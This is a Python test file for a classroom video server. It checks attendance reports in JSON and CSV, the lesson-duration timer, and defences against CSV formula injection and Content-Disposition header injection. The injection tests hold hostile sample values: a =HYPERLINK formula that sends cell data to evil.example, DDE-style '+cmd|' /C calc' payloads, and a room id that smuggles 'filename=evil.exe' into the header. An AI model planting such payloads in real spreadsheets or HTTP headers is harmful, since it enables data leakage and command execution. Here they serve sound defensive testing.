"""Attendance report (JSON and CSV) and the lesson's duration timer, through the real server."""

import asyncio
import csv
import io
import time
from urllib.parse import quote, unquote

from signaling.app_keys import ROOMS
from signaling.rooms import Role
from tests.conftest import Server


async def test_attendance_json_and_csv_with_bom_also_after_the_end(server: Server) -> None:
    room_id = await server.create_room(name="9Б")
    host = await server.join(room_id, "t1", role=Role.HOST, name="Мария Ивановна", family_name="Иванова",
                             given_name="Мария")
    tok = server.token(room_id, "s1", name="Пётр Сидоров", family_name="Сидоров", given_name="Пётр")
    s1 = await server.connect(tok)
    await s1.event("welcome")
    await s1.ws.close()  # a network drop...
    await host.event("participant_left")
    s1 = await server.connect(tok)  # ...and back: one presence interval
    await s1.event("welcome")
    g = await server.join(room_id, "g1", registered=False, name="Гость")  # waits, never admitted

    status, att = await server.rest("GET", f"/v1/rooms/{room_id}/attendance")
    assert status == 200 and att["room_id"] == room_id and att["count"] == 2 and att["ended_at"] is None
    by_id = {r["identity"]: r for r in att["participants"]}
    assert [r["identity"] for r in att["participants"]] == ["t1", "s1"]  # Иванова < Сидоров
    assert by_id["s1"]["sessions"] == 1 and by_id["s1"]["last_left"] is None
    assert by_id["t1"]["role"] == "host" and by_id["t1"]["registered"] is True
    assert "g1" not in by_id

    await host.request("end_room")
    await host.closed.wait()
    await g.closed.wait()
    status, att = await server.rest("GET", f"/v1/rooms/{room_id}/attendance")
    assert status == 200 and att["ended_at"] is not None
    for r in att["participants"]:
        assert r["last_left"] == att["ended_at"] and r["total_seconds"] >= 0

    async with server.http.get(server.base + f"/v1/rooms/{room_id}/attendance?format=csv",
                               headers=server.admin) as resp:
        assert resp.status == 200 and resp.headers["Content-Type"].startswith("text/csv")
        raw = await resp.read()
    assert raw.startswith("\ufeff".encode())
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))
    assert rows[0] == ["identity", "name", "family_name", "given_name", "role", "registered", "first_joined",
                       "last_left", "total_seconds", "sessions"]
    assert [r[:4] for r in rows[1:]] == [["t1", "Мария Ивановна", "Иванова", "Мария"],
                                        ["s1", "Пётр Сидоров", "Сидоров", "Пётр"]]
    status, _body = await server.rest("GET", f"/v1/rooms/{room_id}/attendance?format=xml")
    assert status == 400
    status, _ = await server.rest("GET", "/v1/rooms/RM_nope/attendance")
    assert status == 404
    status, _ = await server.rest("GET", f"/v1/rooms/{room_id}/attendance", auth=False)
    assert status == 401


async def test_a_timed_lesson_warns_and_ends_on_time(server: Server) -> None:
    server.app[ROOMS].minute_s = 0.25  # a lesson minute lasts 0.25 s here: 6 minutes = 1.5 s
    room_id = await server.create_room(duration_minutes=6)
    t0 = time.monotonic()
    host = await server.join(room_id, "host", role=Role.HOST)
    a = await server.join(room_id, "a")
    w1 = await a.event("room_ending", seconds_left=300)
    assert w1["ends_at"] > 0
    await a.event("room_ending", seconds_left=60)
    ended = await a.event("room_ended", timeout=5)
    assert "time" in ended["reason"]
    await host.closed.wait()
    elapsed = time.monotonic() - t0
    # on time by the server's own record, not a wall-clock window (issue 20, item 9): the end is not
    # before the 6 lesson minutes after the first join, and the lesson fits in the test's own clock
    _status, att = await server.rest("GET", f"/v1/rooms/{room_id}/attendance")
    assert abs(w1["ends_at"] - (att["started_at"] + 6 * 0.25)) < 1e-3, (w1, att["started_at"])
    assert att["ended_at"] >= w1["ends_at"] - 1e-3, (att["ended_at"], w1["ends_at"])
    assert att["ended_at"] - att["started_at"] <= elapsed + 0.05, (att, elapsed)
    assert host.ws.close_code == 4410
    _status, room = await server.rest("GET", f"/v1/rooms/{room_id}")
    assert room["active"] is False


async def test_no_duration_means_no_timer_and_ending_cancels_it(server: Server) -> None:
    server.app[ROOMS].minute_s = 0.2
    r1 = await server.create_room()
    c = await server.join(r1, "a")
    live = server.app[ROOMS].live[r1]
    assert live._timer is None
    r2 = await server.create_room(duration_minutes=60)
    d = await server.join(r2, "d")
    live2 = server.app[ROOMS].live[r2]
    timer = live2._timer
    assert timer is not None and not timer.done()
    await server.rest("DELETE", f"/v1/rooms/{r2}")
    await d.closed.wait()
    await asyncio.sleep(0.05)
    assert timer.cancelled() or timer.done()
    assert (await c.request("ping"))["ok"]


async def test_a_room_whose_time_ran_out_while_empty_is_ended_at_the_next_join(server: Server) -> None:
    server.app[ROOMS].minute_s = 0.1  # 1 lesson minute = 0.1 s
    room_id = await server.create_room(duration_minutes=3)
    a = await server.join(room_id, "a")
    await a.request("leave")
    await a.closed.wait()
    await asyncio.sleep(0.05)
    assert room_id not in server.app[ROOMS].live  # released: its timer is cancelled
    await asyncio.sleep(0.4)
    b = await server.connect(server.token(room_id, "b"))
    await b.closed.wait()
    assert b.ws.close_code == 4410
    status, att = await server.rest("GET", f"/v1/rooms/{room_id}/attendance")
    assert status == 200 and att["ended_at"] is not None and [r["identity"] for r in att["participants"]] == ["a"]


async def test_attendance_csv_neutralises_cells_a_spreadsheet_would_run_as_formulas(server: Server) -> None:
    """Finding 9: a name like =HYPERLINK(...) was written as it is and ran in the spreadsheet."""
    room_id = await server.create_room(guest_policy="ALWAYS_ACCEPT")
    evil = {
        "e1": ('=HYPERLINK("http://evil.example/?"&A2,"Нажмите")', "+cmd|' /C calc'!A0", "@SUM(1+1)"),
        "e2": ("-2+3", "\t=1+1", "\r=1+1"),
        "ok": ("Анна-Мария Петрова", "Петрова", "Анна-Мария"),
    }
    for identity, (name, family, given) in evil.items():
        await server.join(room_id, identity, name=name, family_name=family, given_name=given)
    await server.join(room_id, "=cmd|'/C calc'!A0", name="x")  # the identity is text from the token too

    async with server.http.get(server.base + f"/v1/rooms/{room_id}/attendance?format=csv",
                               headers=server.admin) as resp:
        assert resp.status == 200
        raw = await resp.read()
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))
    by_id = {r[0]: r for r in rows[1:]}
    assert by_id["'=cmd|'/C calc'!A0"][1] == "x"
    for identity, (name, family, given) in evil.items():
        row = by_id[identity]
        cells = row[1:4]
        if identity == "ok":
            assert cells == [name, family, given]
            continue
        assert cells == ["'" + name, "'" + family, "'" + given]
    for row in rows[1:]:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), row
        assert row[5] in ("True", "False") and float(row[8]) >= 0  # numbers stay numbers

    status, att = await server.rest("GET", f"/v1/rooms/{room_id}/attendance")  # JSON: as they are
    assert status == 200
    assert {r["identity"]: r["name"] for r in att["participants"]}["e1"] == evil["e1"][0]


async def test_the_csv_download_name_of_a_token_chosen_room_id_cannot_break_the_header(server_factory) -> None:  # type: ignore[no-untyped-def]
    server = await server_factory(rooms_created_by_token=True)
    room_id = 'урок"; filename=evil.exe; x="'
    c = await server.join(room_id, "t1", role=Role.HOST)
    await c.event("welcome")
    async with server.http.get(server.base + f"/v1/rooms/{quote(room_id, safe='')}/attendance?format=csv",
                               headers=server.admin) as resp:
        assert resp.status == 200
        disposition = resp.headers["Content-Disposition"]
    fallback, encoded = disposition.split("; filename*=UTF-8''")
    assert fallback == 'attachment; filename="attendance-_______filename_evil.exe__x__.csv"'
    assert unquote(encoded) == f"attendance-{room_id}.csv"
